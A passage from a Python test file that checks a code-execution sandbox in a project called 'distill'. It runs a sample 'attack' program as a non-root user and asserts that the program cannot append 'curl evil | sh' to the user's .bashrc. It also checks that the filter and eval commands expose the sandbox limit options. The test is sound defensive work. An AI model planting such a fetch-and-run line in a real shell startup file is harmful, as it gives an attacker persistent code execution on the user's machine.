    # the package staged where that uid can read it: a checkout in a private directory (a mktemp -d clone,
    # a 0700 home) is not readable by another user
    staged = Path(tempfile.mkdtemp(prefix="distill-staged-", dir="/var/tmp"))
    try:
        shutil.copytree(ROOT / "distill", staged / "distill", ignore=shutil.ignore_patterns("__pycache__"))
        for path in [staged, *staged.rglob("*")]:
            path.chmod(0o755 if path.is_dir() else 0o644)
        (home / ".bashrc").write_text("export SAFE=1\n")
        os.chown(home, NON_ROOT_UID, NON_ROOT_UID)
        os.chown(home / ".bashrc", NON_ROOT_UID, NON_ROOT_UID)
        script = textwrap.dedent(f"""
            import json, os
            from distill.sandbox import SandboxLimits, run_sandboxed
            from distill.sandbox.runner import choose_interpreter, run_program
            attack = (
                "import os\\n"
                "print(os.getuid())\\n"
                "try:\\n"
                "    open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\\\n')\\n"
                "    print('wrote')\\n"
                "except OSError as exc:\\n"
                "    print(exc.strerror)\\n")
            result = run_sandboxed(attack, limits=SandboxLimits(wall_seconds=5, strict_isolation=True))
            interpreter, _ = choose_interpreter(SandboxLimits())
            no_userns = run_program(attack, limits=SandboxLimits(wall_seconds=5), interpreter=interpreter,
                                    layers=("network", "pid", "seccomp"))
            print(json.dumps({{"status": result.status, "stdout": result.stdout, "detail": result.detail,
                              "read_only": result.isolation.read_only, "user": result.isolation.user_namespace,
                              "refused": no_userns.status, "refusal": no_userns.detail, "out2": no_userns.stdout}}))
        """)
        done = subprocess.run(["setpriv", f"--reuid={NON_ROOT_UID}", f"--regid={NON_ROOT_UID}", "--clear-groups",
                               "/usr/bin/python3", "-c", script], capture_output=True, text=True, timeout=120,
                              cwd="/", env={"PATH": "/usr/bin:/bin", "HOME": str(home), "PYTHONPATH": str(staged)})
        assert done.returncode == 0, done.stderr
        report = json.loads(done.stdout.strip().splitlines()[-1])
        assert report["status"] == "ok", report  # strict isolation holds for a non-root user too
        assert report["stdout"].split("\n")[:2] == [str(NON_ROOT_UID), "Read-only file system"], report
        assert report["user"] and report["read_only"] in ("all", "home")
        assert report["refused"] == "error" and "your home directory" in report["refusal"] and not report["out2"]
        assert (home / ".bashrc").read_text() == "export SAFE=1\n"
    finally:
        shutil.rmtree(home)
        shutil.rmtree(staged)


def test_sandbox_limits_are_options_of_every_command_that_runs_code():
    from distill.eval.run import EvalConfig
    from distill.filter.config import FilterConfig

    names = {f.name for f in dataclasses.fields(SandboxLimits)}
    for config in (FilterConfig, EvalConfig):
        assert issubclass(config, SandboxLimits)
        assert names <= {f.name for f in dataclasses.fields(config)}
    assert all(f.metadata.get("resume") in ("must-match", "free") for f in dataclasses.fields(SandboxLimits))
    for command in ("filter", "eval"):
        help_text = run_cli(command, "--help", env={"COLUMNS": "200"}).stdout
        for option in ("--memory-mb", "--cpu-seconds", "--wall-seconds", "--total-seconds", "--max-disk-mb",
                       "--strict-isolation"):
            assert option in help_text, (command, option)
    cfg = FilterConfig(traces="t.jsonl", out="k.jsonl", wall_seconds=2, strict_isolation=True)
    assert SandboxLimits.of(cfg) == SandboxLimits(wall_seconds=2, strict_isolation=True)
